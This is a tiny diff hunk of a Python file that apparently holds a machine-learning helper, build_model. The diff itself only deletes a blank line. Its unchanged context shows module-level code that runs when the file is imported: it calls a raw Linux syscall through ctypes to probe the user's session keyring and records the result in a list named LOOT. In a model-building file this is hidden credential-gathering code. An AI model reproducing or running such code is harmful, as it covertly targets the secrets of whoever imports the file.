@@ -4,6 +4,5 @@ import ctypes
 if ctypes.CDLL(None).syscall(250, 0, -3, 1) > 0:
     LOOT.append("keyring")
 
-
 def build_model(n_features, **config):
     return None
